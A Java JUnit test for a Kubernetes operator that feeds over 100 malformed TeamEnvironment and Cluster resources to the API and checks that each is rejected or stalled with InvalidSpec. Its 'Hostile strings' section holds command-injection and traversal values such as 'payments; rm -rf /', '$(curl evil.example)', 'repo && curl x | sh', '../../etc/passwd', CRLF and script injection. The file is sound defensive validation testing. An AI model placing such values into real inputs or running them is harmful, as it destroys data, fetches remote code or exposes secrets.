package dev.allotment.resilience;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.SoftAssertions.assertSoftly;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.allotment.api.v1alpha1.Cluster;
import dev.allotment.api.v1alpha1.Groups;
import dev.allotment.api.v1alpha1.TeamEnvironment;
import dev.allotment.engine.OperationKind;
import dev.allotment.status.ConditionType;
import dev.allotment.status.Reason;
import dev.allotment.testing.Examples;
import dev.allotment.testing.FakeStackEngine;
import dev.allotment.testing.RunningOperator;
import dev.allotment.testing.StackResources;
import dev.allotment.testing.TestCluster;
import io.fabric8.kubernetes.api.model.GenericKubernetesResource;
import io.fabric8.kubernetes.api.model.GenericKubernetesResourceList;
import io.fabric8.kubernetes.api.model.ObjectMetaBuilder;
import io.fabric8.kubernetes.client.KubernetesClientException;
import io.fabric8.kubernetes.client.dsl.MixedOperation;
import io.fabric8.kubernetes.client.dsl.Resource;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.IntStream;
import org.awaitility.core.ConditionTimeoutException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Malformed TeamEnvironments and Clusters, as a careless or hostile user could write them: wrong
 * types, missing fields, bad names, hostile strings, huge values. Each one is either rejected by
 * the API server with a message naming the field (a real cluster enforces the CRD's schema) or,
 * when it gets through (the mock server checks no schema, nor does an API server with an older
 * CRD), stalls with {@code InvalidSpec} and a message naming the field, without any Pulumi call.
 * Meanwhile the operator stays healthy and serves the next good resource.
 */
class MalformedResourcesTest {

  private static final String API_VERSION = Groups.PLATFORM + "/" + Groups.V1ALPHA1;
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String HUGE = "a".repeat(100_000);
  private static final List<String> TEN_THOUSAND_LOGINS =
      IntStream.range(0, 10_000).mapToObj(i -> "user-" + i).toList();
  private static final Duration DEADLINE = Duration.ofSeconds(10);

  /** One malformed resource: how it differs from a valid one, and the field it gets wrong. */
  record Case(String kind, String name, String field, String what, Consumer<ObjectNode> change) {
    @Override
    public String toString() {
      return kind + " " + name + " (" + what + ")";
    }
  }

  @RegisterExtension static final TestCluster CLUSTER = new TestCluster();

  private final FakeStackEngine engine = new FakeStackEngine();

  @RegisterExtension final RunningOperator operator = RunningOperator.on(CLUSTER, engine);

  @AfterEach
  void cleanUp() {
    removeEverything();
  }

  @Test
  void everyMalformedResourceIsRejectedOrStalledAndTheOperatorKeepsServing() {
    List<Case> cases = cases();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(100);
    List<String> failures = new ArrayList<>();
    List<String> undecodable = new ArrayList<>();
    Map<Case, GenericKubernetesResource> submitted = new LinkedHashMap<>();
    int rejected = 0;

    for (Case c : cases) {
      GenericKubernetesResource resource = build(c);
      Optional<String> decodeError = decodeError(resource, c.kind());
      if (decodeError.isPresent() && !CLUSTER.isReal()) {
        // The API server would refuse it. The mock server would not, and the operator's informer
        // would then meet an object it cannot decode: see the report at the end and
        // UndecodableObjectTest.
        undecodable.add(c + ": " + decodeError.get());
        continue;
      }
      try {
        submitted.put(c, generic(c.kind()).resource(resource).create());
      } catch (KubernetesClientException e) {
        rejected++;
        if (e.getMessage() == null || !e.getMessage().contains(c.field())) {
          failures.add(c + ": rejected without naming " + c.field() + ": " + e.getMessage());
        }
      }
    }

    // The operator keeps serving: a good environment and cluster created after the bad ones.
    var environments = new StackResources<>(CLUSTER, TeamEnvironment.class);
    var clusters = new StackResources<>(CLUSTER, Cluster.class);
    TeamEnvironment goodEnvironment = environments.apply(Examples.development());
    Cluster goodCluster = clusters.apply(goodCluster());
    environments.awaitCondition(goodEnvironment, ConditionType.READY, "True", Reason.UP_TO_DATE);
    clusters.awaitCondition(goodCluster, ConditionType.READY, "True", Reason.UP_TO_DATE);

    // Each malformed resource that got through was looked at, and stalled naming its field.
    Map<Case, GenericKubernetesResource> observed = awaitObserved(submitted);
    for (Case c : submitted.keySet()) {
      GenericKubernetesResource current = observed.get(c);
      Optional<JsonNode> stalled = condition(current, ConditionType.STALLED);
      if (stalled.isEmpty()) {
        failures.add(c + ": never reconciled (no status after " + DEADLINE.toSeconds() + "s)");
      } else if (!"True".equals(stalled.get().path("status").asText())
          || !Reason.INVALID_SPEC.equals(stalled.get().path("reason").asText())) {
        failures.add(
            c
                + ": not stalled with InvalidSpec; Ready is "
                + condition(current, ConditionType.READY).map(JsonNode::toString).orElse("absent"));
      } else if (!stalled.get().path("message").asText().contains(c.field())) {
        failures.add(
            c
                + ": stalled without naming "
                + c.field()
                + ": "
                + stalled.get().path("message").asText());
      }
    }
    long ups = engine.count(OperationKind.UP) + engine.count(OperationKind.PREVIEW);
    if (ups != 2) {
      failures.add(
          "Pulumi ran "
              + ups
              + " up/preview operations; only the two good resources should have had one");
    }
    boolean healthy = operator.get().ready();

    // Users can delete their mistakes: every malformed resource goes away when deleted.
    for (String kind : List.of("TeamEnvironment", "Cluster")) {
      generic(kind).delete();
    }
    try {
      await().atMost(DEADLINE).until(() -> remaining().isEmpty());
    } catch (ConditionTimeoutException e) {
      remaining().forEach(r -> failures.add(r + ": still there after delete (finalizer kept)"));
      removeFinalizers();
    }

    int submittedCount = submitted.size();
    int rejectedCount = rejected;
    assertSoftly(
        softly -> {
          softly
              .assertThat(healthy)
              .as("operator healthy after %d malformed resources", cases.size())
              .isTrue();
          softly
              .assertThat(failures)
              .as(
                  "%d cases: %d rejected by the API server, %d submitted; problems",
                  cases.size(), rejectedCount, submittedCount)
              .isEmpty();
          softly
              .assertThat(undecodable)
              .as(
                  "malformed resources the operator's types cannot decode. The mock server (like"
                      + " an API server whose CRD lacks this schema) lets them through, and then"
                      + " fabric8's informer stops on the first one and JOSDK's default"
                      + " InformerStoppedHandler calls System.exit(1); so they were not submitted")
              .isEmpty();
        });
  }

  /** Names of the TeamEnvironments and Clusters still in the namespace. */
  private static List<String> remaining() {
    List<String> names = new ArrayList<>();
    for (String kind : List.of("TeamEnvironment", "Cluster")) {
      generic(kind)
          .list()
          .getItems()
          .forEach(r -> names.add(kind + " " + r.getMetadata().getName()));
    }
    return names;
  }

  /** Deletes what the test left; finalizers the operator could not remove are removed by hand. */
  private void removeEverything() {
    for (String kind : List.of("TeamEnvironment", "Cluster")) {
      generic(kind).delete();
    }
    try {
      await().atMost(DEADLINE).until(() -> remaining().isEmpty());
    } catch (ConditionTimeoutException e) {
      removeFinalizers();
    }
  }

  /** What a person does for a resource stuck in deletion: drop its finalizers. */
  private static void removeFinalizers() {
    for (String kind : List.of("TeamEnvironment", "Cluster")) {
      for (GenericKubernetesResource stuck : generic(kind).list().getItems()) {
        generic(kind)
            .withName(stuck.getMetadata().getName())
            .edit(
                r -> {
                  r.getMetadata().setFinalizers(List.of());
                  return r;
                });
      }
    }
    await().atMost(DEADLINE).until(() -> remaining().isEmpty());
  }

  /** Waits until the operator has recorded the current generation of each, or the deadline. */
  private Map<Case, GenericKubernetesResource> awaitObserved(
      Map<Case, GenericKubernetesResource> submitted) {
    Map<Case, GenericKubernetesResource> latest = new LinkedHashMap<>();
    try {
      await()
          .atMost(DEADLINE)
          .pollInterval(Duration.ofMillis(250))
          .until(
              () -> {
                Map<String, GenericKubernetesResource> byName = new LinkedHashMap<>();
                for (String kind : List.of("TeamEnvironment", "Cluster")) {
                  generic(kind)
                      .list()
                      .getItems()
                      .forEach(r -> byName.put(kind + "/" + r.getMetadata().getName(), r));
                }
                submitted.forEach(
                    (c, created) ->
                        latest.put(
                            c, byName.get(c.kind() + "/" + created.getMetadata().getName())));
                return latest.values().stream().allMatch(MalformedResourcesTest::observed);
              });
    } catch (ConditionTimeoutException e) {
      // Reported per case by the caller.
    }
    return latest;
  }

  private static boolean observed(GenericKubernetesResource r) {
    if (r == null) {
      return false;
    }
    JsonNode status = JSON.valueToTree(r.getAdditionalProperties()).path("status");
    return status.path("observedGeneration").asLong(-1) == r.getMetadata().getGeneration();
  }

  private static Optional<JsonNode> condition(GenericKubernetesResource r, String type) {
    if (r == null) {
      return Optional.empty();
    }
    for (JsonNode c :
        JSON.valueToTree(r.getAdditionalProperties()).path("status").path("conditions")) {
      if (type.equals(c.path("type").asText())) {
        return Optional.of(c);
      }
    }
    return Optional.empty();
  }

  /** Why the operator's informer could not turn this object into its type, if it could not. */
  private static Optional<String> decodeError(GenericKubernetesResource resource, String kind) {
    Class<?> type = kind.equals("Cluster") ? Cluster.class : TeamEnvironment.class;
    try {
      CLUSTER.client().getKubernetesSerialization().convertValue(resource, type);
      return Optional.empty();
    } catch (IllegalArgumentException | KubernetesClientException e) {
      return Optional.of(e.getMessage().lines().findFirst().orElse(""));
    }
  }

  private static MixedOperation<
          GenericKubernetesResource,
          GenericKubernetesResourceList,
          Resource<GenericKubernetesResource>>
      genericAll(String kind) {
    return CLUSTER.client().genericKubernetesResources(API_VERSION, kind);
  }

  private static io.fabric8.kubernetes.client.dsl.NonNamespaceOperation<
          GenericKubernetesResource,
          GenericKubernetesResourceList,
          Resource<GenericKubernetesResource>>
      generic(String kind) {
    return genericAll(kind).inNamespace(CLUSTER.namespace());
  }

  private static GenericKubernetesResource build(Case c) {
    ObjectNode root = JSON.createObjectNode();
    root.set("spec", c.kind().equals("Cluster") ? clusterSpec() : environmentSpec());
    c.change().accept(root);
    var resource = new GenericKubernetesResource();
    resource.setApiVersion(API_VERSION);
    resource.setKind(c.kind());
    resource.setMetadata(
        new ObjectMetaBuilder()
            .withName(root.has("name") ? root.remove("name").asText() : c.name())
            .withNamespace(CLUSTER.namespace())
            .build());
    if (root.has("spec")) {
      resource.setAdditionalProperty("spec", JSON.convertValue(root.get("spec"), Object.class));
    }
    return resource;
  }

  private static ObjectNode environmentSpec() {
    ObjectNode spec = JSON.createObjectNode();
    spec.put("team", "payments").put("stage", "development");
    spec.putArray("owners").add("alice-nordic");
    spec.putArray("contributors").add("bob-dev");
    spec.putObject("azure")
        .put("location", "westeurope")
        .put("subscriptionId", "11111111-2222-3333-4444-555555555555");
    spec.putObject("kubernetes")
        .putObject("quota")
        .put("cpu", "4")
        .put("memory", "8Gi")
        .put("pods", 40);
    spec.putObject("github").put("organization", "nordic-retail");
    return spec;
  }

  private static ObjectNode clusterSpec() {
    ObjectNode spec = JSON.createObjectNode();
    spec.put("team", "payments")
        .put("stage", "development")
        .put("provider", "vcluster")
        .put("version", "1.31");
    spec.putObject("nodePool").put("size", "shared").put("count", 1);
    return spec;
  }

  private static Cluster goodCluster() {
    var resource = new GenericKubernetesResource();
    resource.setApiVersion(API_VERSION);
    resource.setKind("Cluster");
    resource.setMetadata(new ObjectMetaBuilder().withName("good-cluster").build());
    resource.setAdditionalProperty("spec", JSON.convertValue(clusterSpec(), Object.class));
    return CLUSTER.client().getKubernetesSerialization().convertValue(resource, Cluster.class);
  }

  // ---- the table ----

  private static List<Case> cases() {
    List<Case> cases = new ArrayList<>();
    Table te = new Table(cases, "TeamEnvironment", "te");
    Table cl = new Table(cases, "Cluster", "cl");

    // Wrong types.
    te.add("spec.owners", "owners as a string", set("owners", "alice"));
    te.add("spec.owners", "owners as a number", set("owners", 42));
    te.add("spec.owners", "owners as an object", set("owners", Map.of("login", "alice")));
    te.add("spec.owners", "owners as a list of lists", set("owners", List.of(List.of("alice"))));
    te.add("spec.owners", "owners as a list of objects", set("owners", List.of(Map.of("a", "b"))));
    te.add("spec.contributors", "contributors as a string", set("contributors", "bob"));
    te.add("spec.stage", "stage prod", set("stage", "prod"));
    te.add("spec.stage", "stage Production", set("stage", "Production"));
    te.add("spec.stage", "stage as a list", set("stage", List.of("development")));
    te.add("spec.team", "team as an object", set("team", Map.of("name", "payments")));
    te.add("spec.team", "team as a list", set("team", List.of("payments")));
    te.add("spec.kubernetes", "kubernetes as a string", set("kubernetes", "big"));
    te.add("spec.kubernetes.quota", "quota as a list", set("kubernetes.quota", List.of()));
    te.add("spec.kubernetes.quota.pods", "pods as a word", set("kubernetes.quota.pods", "forty"));
    te.add(
        "spec.kubernetes.quota.pods", "pods as a list", set("kubernetes.quota.pods", List.of(4)));
    te.add("spec.azure", "azure as a list", set("azure", List.of("westeurope")));
    te.add("spec.azure.tags", "tags as a list", set("azure.tags", List.of("a")));
    te.add(
        "spec.azure.tags", "tag value an object", set("azure.tags", Map.of("c", Map.of("d", "e"))));
    te.add("spec.azure.location", "location an object", set("azure.location", Map.of("a", "b")));
    te.add("spec.github", "github as a string", set("github", "nordic-retail"));
    te.add(
        "spec.github.organization",
        "organization a list",
        set("github.organization", List.of("x")));
    te.add("spec.github.visibility", "visibility secret", set("github.visibility", "secret"));
    te.add("spec.deletionPolicy", "deletionPolicy Destroy", set("deletionPolicy", "Destroy"));
    te.add("spec.deletionPolicy", "deletionPolicy lowercase", set("deletionPolicy", "delete"));
    te.add("spec.approval", "approval Sometimes", set("approval", "Sometimes"));
    te.add("spec.driftPolicy", "driftPolicy Ignore", set("driftPolicy", "Ignore"));
    te.add("spec", "spec as a string", root -> root.put("spec", "hello"));
    te.add("spec", "spec as a list", root -> root.putArray("spec").add(1));
    cl.add("spec.nodePool.count", "count as a word", set("nodePool.count", "three"));
    cl.add("spec.nodePool.count", "count as an object", set("nodePool.count", Map.of("n", 3)));
    cl.add("spec.nodePool", "nodePool as a string", set("nodePool", "big"));
    cl.add("spec.nodePool.autoScale", "autoScale as a string", set("nodePool.autoScale", "yes"));
    cl.add(
        "spec.nodePool.autoScale.min",
        "autoScale.min a word",
        set("nodePool.autoScale", Map.of("min", "one", "max", 3)));
    cl.add("spec.provider", "provider gke", set("provider", "gke"));
    cl.add("spec.provider", "provider VCluster", set("provider", "VCluster"));
    cl.add("spec.stage", "stage prod", set("stage", "prod"));
    cl.add("spec.argocd", "argocd as a boolean", set("argocd", true));
    cl.add("spec.argocd.register", "register maybe", set("argocd.register", "maybe"));
    cl.add("spec.argocd.labels", "labels as a list", set("argocd.labels", List.of("a")));
    cl.add(
        "spec.argocd.labels",
        "label value an object",
        set("argocd.labels", Map.of("env", Map.of("x", "y"))));
    cl.add("spec.version", "version as a list", set("version", List.of(1, 31)));
    cl.add("spec.deletionPolicy", "deletionPolicy Nuke", set("deletionPolicy", "Nuke"));
    cl.add("spec", "spec as a number", root -> root.put("spec", 7));
    cl.add("spec.region", "region an object", set("region", Map.of("name", "ams3")));
    cl.add("spec.nodePool.size", "size as a list", set("nodePool.size", List.of("shared")));

    // Missing fields.
    te.add("spec", "no spec", root -> root.remove("spec"));
    te.add("spec.team", "empty spec", root -> root.putObject("spec"));
    te.add("spec.team", "no team", remove("team"));
    te.add("spec.stage", "no stage", remove("stage"));
    te.add("spec.owners", "no owners", remove("owners"));
    te.add("spec.owners", "no owner in owners", set("owners", List.of()));
    te.add("spec.team", "empty team", set("team", ""));
    te.add("spec.azure.location", "azure empty", set("azure", Map.of()));
    te.add("spec.azure.subscriptionId", "no subscription", remove("azure.subscriptionId"));
    te.add("spec.github.organization", "github empty", set("github", Map.of()));
    te.add("spec.github.organization", "no github", remove("github"));
    te.add("spec.azure.location", "no azure", remove("azure"));
    te.add("spec.owners", "a null owner", set("owners", java.util.Arrays.asList((String) null)));
    cl.add("spec", "no spec", root -> root.remove("spec"));
    cl.add("spec.team", "empty spec", root -> root.putObject("spec"));
    cl.add("spec.team", "no team", remove("team"));
    cl.add("spec.stage", "no stage", remove("stage"));
    cl.add("spec.provider", "no provider", remove("provider"));
    cl.add("spec.nodePool", "no nodePool", remove("nodePool"));
    cl.add("spec.nodePool.count", "no count", remove("nodePool.count"));
    cl.add("spec.region", "digitalocean without region", set("provider", "digitalocean"));
    cl.add(
        "spec.nodePool.size",
        "digitalocean without size",
        set("provider", "digitalocean")
            .andThen(set("region", "ams3"))
            .andThen(remove("nodePool.size")));
    cl.add(
        "spec.nodePool.autoScale",
        "autoScale without max",
        set("nodePool.autoScale", Map.of("min", 1)));

    // Bad names and values.
    te.add("spec.team", "team uppercase", set("team", "Payments"));
    te.add("spec.team", "team starting with a digit", set("team", "1payments"));
    te.add("spec.team", "team with underscore", set("team", "pay_ments"));
    te.add("spec.team", "team ending with a dash", set("team", "payments-"));
    te.add("spec.team", "team of one letter", set("team", "a"));
    te.add("spec.team", "team of 31 letters", set("team", "p".repeat(31)));
    te.add("spec.team", "team with a dot", set("team", "pay.ments"));
    te.add("spec.owners", "owner starting with a dash", set("owners", List.of("-alice")));
    te.add("spec.owners", "owner with underscore", set("owners", List.of("alice_nordic")));
    te.add("spec.owners", "owner of 40 characters", set("owners", List.of("a".repeat(40))));
    te.add("spec.owners", "owner twice", set("owners", List.of("alice", "ALICE")));
    te.add(
        "spec.contributors", "contributor with a space", set("contributors", List.of("bob dev")));
    te.add(
        "spec.contributors",
        "contributor also an owner",
        set("contributors", List.of("alice-nordic")));
    te.add(
        "spec.kubernetes.namespace", "namespace uppercase", set("kubernetes.namespace", "Team_NS"));
    te.add(
        "spec.kubernetes.namespace",
        "namespace of 64",
        set("kubernetes.namespace", "n".repeat(64)));
    te.add(
        "spec.kubernetes.clusterRef",
        "clusterRef with a space",
        set("kubernetes.clusterRef", "My Cluster"));
    te.add("spec.github.repository", "repository with spaces", set("github.repository", "my repo"));
    te.add(
        "spec.github.repository", "repository of 101", set("github.repository", "r".repeat(101)));
    te.add(
        "spec.github.organization",
        "organization with a dash first",
        set("github.organization", "-org"));
    te.add("spec.github.template", "template without owner", set("github.template", "no-slash"));
    te.add("spec.github.template", "template with two slashes", set("github.template", "a/b/c"));
    te.add("spec.azure.location", "location with a space", set("azure.location", "West Europe"));
    te.add(
        "spec.azure.subscriptionId",
        "subscription not a GUID",
        set("azure.subscriptionId", "not-a-guid"));
    te.add("spec.kubernetes.quota.cpu", "cpu as a word", set("kubernetes.quota.cpu", "four"));
    te.add(
        "spec.kubernetes.quota.memory",
        "memory in words",
        set("kubernetes.quota.memory", "8 gigabytes"));
    te.add("spec.kubernetes.quota.pods", "no pods", set("kubernetes.quota.pods", 0));
    te.add("spec.kubernetes.quota.pods", "too many pods", set("kubernetes.quota.pods", 100_000));
    te.add("spec.kubernetes.quota.pods", "negative pods", set("kubernetes.quota.pods", -1));
    te.add("spec.driftInterval", "drift interval soon", set("driftInterval", "soon"));
    // A name longer than a Pulumi stack name may be is not malformed: the stack name is shortened
    // with a digest (StackRefTest), so such a resource is served like any other.
    cl.add("spec.team", "team uppercase", set("team", "Payments"));
    cl.add(
        "spec.region",
        "region with a space",
        set("provider", "digitalocean").andThen(set("region", "AMS 3")));
    cl.add("spec.version", "version with a v", set("version", "v1.31"));
    cl.add("spec.nodePool.count", "no nodes", set("nodePool.count", 0));
    cl.add("spec.nodePool.count", "too many nodes", set("nodePool.count", 1001));
    cl.add("spec.nodePool.count", "negative nodes", set("nodePool.count", -5));
    cl.add(
        "spec.nodePool.autoScale",
        "autoScale min above max",
        set("nodePool.autoScale", Map.of("min", 5, "max", 2)).andThen(set("nodePool.count", 3)));
    cl.add(
        "spec.nodePool.count",
        "count outside autoScale",
        set("nodePool.autoScale", Map.of("min", 1, "max", 3)).andThen(set("nodePool.count", 10)));
    cl.add(
        "spec.nodePool.autoScale",
        "autoScale above 1000",
        set("nodePool.autoScale", Map.of("min", 1, "max", 5000)));
    cl.add(
        "spec.nodePool.size",
        "size with a space",
        set("provider", "digitalocean")
            .andThen(set("region", "ams3"))
            .andThen(set("nodePool.size", "s 4vcpu")));
    cl.add(
        "spec.argocd.namespace",
        "argocd namespace with a space",
        set("argocd.namespace", "Argo CD"));
    cl.add(
        "spec.argocd.labels",
        "label key with a bang",
        set("argocd.labels", Map.of("bad key!", "v")));
    cl.add(
        "spec.argocd.labels",
        "label value with spaces",
        set("argocd.labels", Map.of("env", "a b")));
    cl.add("spec.argocd.project", "argocd project uppercase", set("argocd.project", "Project_X"));
    cl.add("spec.driftInterval", "drift interval every day", set("driftInterval", "every day"));

    // Hostile strings.
    te.add("spec.team", "shell command in team", set("team", "payments; rm -rf /"));
    te.add("spec.team", "command substitution", set("team", "$(curl evil.example)"));
    te.add("spec.team", "backticks", set("team", "payments`id`"));
    te.add("spec.team", "newline and YAML", set("team", "payments\nstage: production"));
    te.add("spec.team", "Cyrillic look-alike", set("team", "p\u0430yments"));
    te.add("spec.team", "emoji", set("team", "\uD83D\uDCB3-payments"));
    te.add("spec.team", "right-to-left override", set("team", "\u202Epayments"));
    te.add("spec.team", "template expression", set("team", "{{ .Values.team }}"));
    te.add(
        "spec.owners",
        "GitHub expression in owners",
        set("owners", List.of("${{ secrets.GITHUB_TOKEN }}")));
    te.add("spec.owners", "owner with a trailing newline", set("owners", List.of("alice\n")));
    te.add(
        "spec.owners",
        "markup in owners",
        set("owners", List.of("alice", "<script>alert(1)</script>")));
    te.add(
        "spec.contributors",
        "shell in contributors",
        set("contributors", List.of("bob; shutdown -h now")));
    te.add(
        "spec.github.repository",
        "pipe to a shell",
        set("github.repository", "repo && curl x | sh"));
    te.add("spec.github.repository", "path traversal", set("github.repository", "../../../etc"));
    te.add(
        "spec.github.organization",
        "GitHub expression",
        set("github.organization", "${{ github.token }}"));
    te.add("spec.github.template", "quote injection", set("github.template", "org/repo\"; drop"));
    te.add("spec.kubernetes.namespace", "NUL character", set("kubernetes.namespace", "ns\u0000x"));
    te.add(
        "spec.kubernetes.clusterRef",
        "path in clusterRef",
        set("kubernetes.clusterRef", "../../etc/passwd"));
    te.add("spec.azure.location", "CRLF", set("azure.location", "westeurope\r\nX-Injected: 1"));
    te.add(
        "spec.azure.subscriptionId",
        "shell after a GUID",
        set("azure.subscriptionId", "11111111-2222-3333-4444-555555555555 || true"));
    te.add(
        "spec.kubernetes.quota.memory",
        "command in memory",
        set("kubernetes.quota.memory", "8Gi; $(reboot)"));
    te.add("spec.kubernetes.quota.cpu", "newline in cpu", set("kubernetes.quota.cpu", "4\n"));
    te.add(
        "spec.driftInterval", "huge drift interval", set("driftInterval", "99999999999999999999h"));
    cl.add("spec.team", "command substitution", set("team", "$(id)"));
    cl.add(
        "spec.region",
        "newline in region",
        set("provider", "digitalocean").andThen(set("region", "ams3\nrm")));
    cl.add("spec.version", "GitHub expression in version", set("version", "${{ secrets.TOKEN }}"));
    cl.add("spec.version", "shell in version", set("version", "latest; rm -rf /"));
    cl.add(
        "spec.nodePool.size",
        "backticks in size",
        set("provider", "digitalocean")
            .andThen(set("region", "ams3"))
            .andThen(set("nodePool.size", "shared`reboot`")));
    cl.add("spec.argocd.namespace", "unicode namespace", set("argocd.namespace", "\u0430rgocd"));

    // Huge values.
    te.add("spec.team", "100 KB team", set("team", HUGE));
    te.add("spec.owners", "100 KB owner", set("owners", List.of(HUGE)));
    te.add("spec.owners", "10k owners", set("owners", TEN_THOUSAND_LOGINS));
    te.add("spec.contributors", "10k contributors", set("contributors", TEN_THOUSAND_LOGINS));
    te.add("spec.github.repository", "100 KB repository", set("github.repository", HUGE));
    te.add("spec.github.template", "100 KB template", set("github.template", "org/" + HUGE));
    te.add("spec.azure.subscriptionId", "100 KB subscription", set("azure.subscriptionId", HUGE));
    te.add("spec.kubernetes.namespace", "100 KB namespace", set("kubernetes.namespace", HUGE));
    te.add("spec.azure.tags", "10k tags", set("azure.tags", tags(10_000)));
    cl.add("spec.team", "100 KB team", set("team", HUGE));
    cl.add("spec.version", "100 KB version", set("version", HUGE));
    cl.add(
        "spec.argocd.namespace",
        "100 KB Argo CD namespace",
        set("argocd", Map.of("register", true, "namespace", HUGE)));
    cl.add("spec.argocd.labels", "10k labels", set("argocd.labels", tags(10_000)));
    return cases;
  }

  /** Appends cases of one kind, numbering their names. */
  private record Table(List<Case> cases, String kind, String prefix) {
    void add(String field, String what, Consumer<ObjectNode> change) {
      long n = cases.stream().filter(c -> c.kind().equals(kind)).count() + 1;
      cases.add(new Case(kind, String.format("%s-%03d", prefix, n), field, what, change));
    }
  }

  private static Map<String, String> tags(int count) {
    Map<String, String> tags = new LinkedHashMap<>();
    IntStream.range(0, count).forEach(i -> tags.put("key-" + i, "value-" + i));
    return tags;
  }

  /** Sets a dotted path under {@code spec} (or {@code name}, the resource's name). */
  private static Consumer<ObjectNode> set(String path, Object value) {
    return root -> {
      if (path.equals("name")) {
        root.put("name", (String) value);
        return;
      }
      ObjectNode parent = parentOf(root, path);
      parent.set(leaf(path), JSON.valueToTree(value));
    };
  }

  private static Consumer<ObjectNode> remove(String path) {
    return root -> parentOf(root, path).remove(leaf(path));
  }

  private static ObjectNode parentOf(ObjectNode root, String path) {
    ObjectNode node = (ObjectNode) root.get("spec");
    String[] parts = path.split("\\.");
    for (int i = 0; i < parts.length - 1; i++) {
      JsonNode child = node.get(parts[i]);
      node = child instanceof ObjectNode object ? object : node.putObject(parts[i]);
    }
    return node;
  }

  private static String leaf(String path) {
    return path.substring(path.lastIndexOf('.') + 1);
  }
}
